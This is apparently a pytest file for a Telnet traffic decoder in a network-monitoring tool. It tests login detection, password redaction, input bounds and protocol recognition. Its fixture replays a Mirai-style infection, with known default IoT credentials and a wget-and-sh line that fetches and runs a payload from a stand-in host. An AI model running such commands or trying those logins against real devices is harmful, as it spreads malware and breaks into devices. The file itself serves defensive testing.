"""Telnet against hand-made conversations and hostile bytes."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cityward.checks import check_decoder
from collectors.packets.decoders.telnet import LINE_MAX, Telnet
from tests.collectors.packets.decoders.streams import Wire, session

OFFER = b"\xff\xfd\x18\xff\xfb\x01\xff\xfa\x18\x01\xff\xf0"
WORM: list[tuple[bool, bytes]] = [
    (False, OFFER + b"\r\nHi3516 login: "),
    (True, b"\xff\xfc\x18root\r\n"),
    (False, b"root\r\nPassword: "),
    (True, b"admin\r\n"),
    (False, b"\r\nLogin incorrect\r\n\r\nHi3516 login: "),
    (True, b"root\r\0"),
    (False, b"root\r\nPassword: "),
    (True, b"xc3511\r\0"),
    (False, b"\r\n\r\nBusyBox v1.16.1 built-in shell (ash)\r\n\r\n~ # "),
    (True, b"/bin/busybox MIRAI\r\n"),
    (False, b"MIRAI: applet not found\r\n~ # "),
    (True, b"wget http://198.51.100.7/mirai.arm7 -O - > .x; sh .x\r\n"),
    (True, b"hunter2\r\n"),
]


def wire() -> Wire:
    return Wire(Telnet(session(server="10.0.0.2:23")))


def read(*pieces: tuple[bool, bytes]) -> list[dict[str, Any]]:
    line = wire()
    found = [fields for who, data in pieces for fields in line.send(data, who)]
    return [*found, *line.decoder.end()]


def test_a_worm_is_seen_at_work() -> None:
    found = read(*WORM)

    assert [
        (one["event.action"], one.get("event.outcome"), one.get("process.name")) for one in found
    ] == [
        ("telnet_negotiation", None, None),
        ("telnet_login", "failure", None),
        ("telnet_login", "success", None),
        ("telnet_command", None, "busybox"),
        ("telnet_command", None, "wget"),
        ("telnet_command", None, "other"),
    ]
    assert [one["ot.is_command"] for one in found[3:]] == [True, True, False]
    assert {one["user.name"] for one in found[1:]} == {"root"}
    assert found[1]["cw.vendor"] == found[2]["cw.vendor"] == {"default_login": True}


def test_no_password_is_kept() -> None:
    said = repr(read(*WORM))

    assert not any(word in said for word in ("xc3511", "'admin", "hunter2"))


def test_a_person_who_types_letter_by_letter_is_read_with_echo_and_backspace() -> None:
    typed = [piece for letter in b"adx\x7fa" for piece in ((True, bytes([letter])), (False, b"*"))]

    found = read((False, b"Username: "), *typed, (True, b"\r\n"), (False, b"\r\nPassword:"),
                 (True, b"one\r\n"), (False, b"\r\n% Bad passwords\r\n"))  # fmt: skip

    assert [(one["user.name"], one["event.outcome"]) for one in found] == [("ada", "failure")]
    assert "Bad passwords" not in repr(found)


@pytest.mark.parametrize(
    ("answer", "outcome"),
    [
        (b"\r\nrouter>", "success"),
        (b"\r\nlogin: ", "failure"),
        (b"\r\nPassword: ", "failure"),
        (b"\r\nWelcome to ES-3000\r\n", "success"),
        (b"\r\nplease wait\r\n", "unknown"),
    ],
)
def test_what_the_server_says_next_decides(answer: bytes, outcome: str) -> None:
    found = read((False, b"Password: "), (True, b"\r\n"), (False, answer))

    assert [one["event.outcome"] for one in found] == [outcome]


def test_after_a_gap_nothing_that_is_typed_is_taken_for_a_name() -> None:
    line = wire()
    line.send(b"login: ", False)
    line.decoder.gap(False)
    line.send(b"secret\r\n", True)
    line.send(b"Password: ", False)
    line.send(b"x\r\n", True)

    left = line.decoder.end()

    assert [one["event.action"] for one in left] == ["telnet_login"]
    assert "user.name" not in left[0]


def test_lines_and_options_without_an_end_are_bounded() -> None:
    line = wire()

    for _ in range(20):
        line.send(b"a" * 1_000, True)
    found = line.send(b"\xff\xfa\x18" + bytes(600), False)
    line.send(bytes(5_000), False)

    assert len(line.decoder._lanes[True].line) == LINE_MAX
    assert [one["event.kind"] for one in found] == ["pipeline_error"]
    assert line.rest[False] == b""


def test_the_decoder_keeps_its_promises() -> None:
    check_decoder(Telnet, WORM, mutants_each=20)


@pytest.mark.parametrize(
    "head",
    [
        b"\xff\xfb\x90\x64" + bytes(60),
        b"\xff\xd8\xff\xe0\x00\x10JFIF",
        b"\xff\xff\xff\xff",
        b"220 FTP server ready, please login\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>login: </p>",
        b"\x01login: ",
    ],
)
def test_other_protocols_are_not_claimed(head: bytes) -> None:
    assert not Telnet.recognises(head)


def test_a_prompt_alone_is_recognised() -> None:
    assert Telnet.recognises(b"\r\nSCALANCE X208\r\nLogin: ")


@given(st.binary(max_size=60))
def test_random_bytes_are_no_telnet(data: bytes) -> None:
    assert not Telnet.recognises(b"\x01" + data)
